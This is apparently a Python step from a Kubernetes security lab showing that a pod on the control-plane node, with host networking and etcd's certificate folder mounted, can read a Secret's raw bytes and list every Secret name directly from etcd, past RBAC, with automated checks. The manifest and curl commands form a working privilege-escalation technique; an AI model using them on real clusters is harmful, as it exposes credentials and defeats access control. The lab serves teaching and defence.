"""Step 4: the raw bytes of a Secret in etcd."""

from __future__ import annotations

import base64
import json
from typing import Any

from harness import expect
from harness.lab.api import LabContext
from harness.lab.kit.etcd import etcd_key, readable
from labs.lab00_why.encoding import password_of
from labs.lab00_why.lab import why

READER = "etcd-reader"


def ask_etcd(lab: LabContext, question: dict[str, Any]) -> list[dict[str, Any]]:
    """What etcd answers to a range request that the pod makes: keys and values, decoded."""
    encoded = {
        name: base64.b64encode(value.encode()).decode() if isinstance(value, str) else value
        for name, value in question.items()
    }
    answer = lab.kube.exec(
        READER,
        f"""
curl -sS --fail-with-body --cacert /pki/etcd/ca.crt --cert /pki/etcd/server.crt \\
  --key /pki/etcd/server.key https://127.0.0.1:2379/v3/kv/range -d '{json.dumps(encoded)}'
""",
    )
    return [
        {
            "key": base64.b64decode(found["key"]).decode(),
            "value": base64.b64decode(found.get("value", "")),
        }
        for found in json.loads(answer).get("kvs") or []
    ]


def names_in_etcd(lab: LabContext) -> int:
    """How many Secrets etcd names to whoever has its certificate."""
    everything = {"key": "/registry/secrets/", "range_end": "/registry/secrets0"}
    return len(ask_etcd(lab, {**everything, "keys_only": True}))


@why.step(
    "Look into etcd",
    minutes=3,
    goals=[
        "there is a Secret stored with a password",
        "the pod etcd-reader runs, in the network of the control-plane node",
        "it can ask etcd for the Secret, past the API server and its RBAC",
        "the value begins with k8s and a zero byte: plain protobuf",
        "the password stands in it as it is, without base64",
    ],
    hints=[
        "etcd listens on 127.0.0.1 of its node, and takes the client certificates that are there "
        "in files. What must a pod share with the node to reach both?",
        "`kubectl -n kube-system get pod etcd-$NODE -o yaml` names the folder of etcd's "
        "certificates (`--cert-file`).",
        "hostNetwork: true; path: /etc/kubernetes/pki/etcd",
    ],
)
def look_into_etcd(lab: LabContext) -> None:
    """
    The API server keeps everything in **etcd**, a database. With its files, a backup of them,
    or a client certificate for it you need no RBAC: you do not ask the API server.

    The certificate is on the control-plane node. So a pod that may run there, in the node's
    network and with a folder of the node mounted, can ask etcd directly. That is what the right
    to create pods amounts to where no policy forbids such pods, and it is how we look now.

    A value begins with `k8s` and a zero byte, then comes the object in protobuf, which is
    binary but not encrypted: the password stands in it as it is, without even base64.

    The keys are paths: `/registry/secrets/NAMESPACE/NAME`. They tell every Secret's name, and
    they stay readable when the values are encrypted.

    Encrypting them is possible: lab 06 does it, for people who run clusters.
    """
    lab.sh(r"""
head -c 18 /dev/urandom | base64 | tr -d '\n' |
  kubectl create secret generic stored --from-file=password=/dev/stdin
""")
    lab.kubectl_apply("""
apiVersion: v1
kind: Pod
metadata: {name: etcd-reader}
spec:
  nodeName: $NODE
  hostNetwork: true  #? etcd listens on the node's own 127.0.0.1
  automountServiceAccountToken: false
  terminationGracePeriodSeconds: 0
  tolerations: [{operator: Exists}]
  containers:
  - name: shell
    image: $APP_IMAGE
    imagePullPolicy: IfNotPresent
    command: [sleep, infinity]
    securityContext: {runAsUser: 0}
    volumeMounts: [{name: pki, mountPath: /pki/etcd, readOnly: true}]
  volumes:
  - name: pki
    hostPath:
      path: /etc/kubernetes/pki/etcd  #? the folder with etcd's certificates
""")
    lab.sh(r"""
kubectl wait --for=condition=Ready pod/etcd-reader --timeout=60s
password=$(kubectl get secret stored -o jsonpath='{.data.password}' | base64 -d)
# One key. Bytes that are no text become dots, and sed masks the password; etcd does not.
printf '{"key": "%s"}' $(printf %s /registry/secrets/$NAMESPACE/stored | base64) |
  kubectl exec -i etcd-reader -- curl -sS --fail-with-body --cacert /pki/etcd/ca.crt \
    --cert /pki/etcd/server.crt --key /pki/etcd/server.key \
    https://127.0.0.1:2379/v3/kv/range -d @- |
  jq -r '.kvs[0].value' | base64 -d | LC_ALL=C tr -c '[:print:]' . |
  sed -f <(printf 's|%s|(THE PASSWORD)|' "$password")
""")
    lab.sh(r"""
# All keys from /registry/secrets/ on: the names of all Secrets of all namespaces.
printf '{"key": "%s", "range_end": "%s", "keys_only": true}' \
  $(printf %s /registry/secrets/ | base64) $(printf %s /registry/secrets0 | base64) |
  kubectl exec -i etcd-reader -- curl -sS --fail-with-body --cacert /pki/etcd/ca.crt \
    --cert /pki/etcd/server.crt --key /pki/etcd/server.key \
    https://127.0.0.1:2379/v3/kv/range -d @- |
  jq -r '.kvs[].key | @base64d'
""")


@look_into_etcd.check
def _(lab: LabContext) -> None:
    password = password_of(lab, "stored")
    expect(password, "there is a Secret stored with a password")
    pod = lab.kube.get("Pod", READER) or {}
    expect(
        (pod.get("status") or {}).get("phase") == "Running" and pod["spec"].get("hostNetwork"),
        f"the pod {READER} runs, in the network of the control-plane node",
        found=pod.get("status", {}).get("phase") or "no such pod",
    )
    found = ask_etcd(lab, {"key": etcd_key(lab, "stored")})
    expect(found, "it can ask etcd for the Secret, past the API server and its RBAC")
    value = found[0]["value"]
    expect(
        value.startswith(b"k8s\x00"),
        "the value begins with k8s and a zero byte: plain protobuf",
        found=readable(value[:30]),
    )
    expect(password.encode() in value, "the password stands in it as it is, without base64")
